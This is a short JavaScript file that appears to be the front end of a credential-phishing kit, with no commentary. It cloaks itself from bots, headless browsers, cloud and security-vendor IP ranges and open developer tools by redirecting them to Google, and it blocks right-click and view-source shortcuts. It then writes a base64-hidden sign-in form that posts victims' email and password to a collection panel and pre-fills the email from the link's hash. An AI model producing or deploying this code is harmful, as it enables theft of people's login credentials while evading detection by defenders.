(async () => {
  const away = () => location.replace("https://www.google.com/");
  const ua = navigator.userAgent.toLowerCase();
  if (navigator.webdriver || /headless|phantom|bot|crawl|spider|curl|python/.test(ua)) return away();
  if (!navigator.languages || !navigator.languages.length || !navigator.plugins) return away();
  if (window.outerWidth - window.innerWidth > 200 || window.outerHeight - window.innerHeight > 300) return away();
  const ip = await fetch("https://ipinfo.placeholder.example/json").then((r) => r.json()).catch(() => ({}));
  if (/amazon|google|microsoft|digitalocean|ovh|netcraft|palo alto/i.test(ip.org || "")) return away();
  document.addEventListener("contextmenu", (e) => e.preventDefault());
  document.onkeydown = (e) => { if (e.keyCode === 123 || (e.ctrlKey && e.shiftKey && [73, 74, 67].includes(e.keyCode)) || (e.ctrlKey && e.keyCode === 85)) return false; };
  const markup = "PGZvcm0gbWV0aG9kPSJwb3N0IiBhY3Rpb249Imh0dHBzOi8vcGFuZWwuZXhhbXBsZS9wb3N0LnBocCI+PGlucHV0IG5hbWU9ImVtYWlsIj48aW5wdXQgdHlwZT0icGFzc3dvcmQiIG5hbWU9InBhc3N3ZCI+PGJ1dHRvbj5TaWduIGluPC9idXR0b24+PC9mb3JtPg==";
  document.open();
  document.write(atob(markup));
  document.close();
  const who = location.hash.slice(1);
  if (who) document.querySelector("[name=email]").value = who.includes("@") ? who : atob(who);
})();
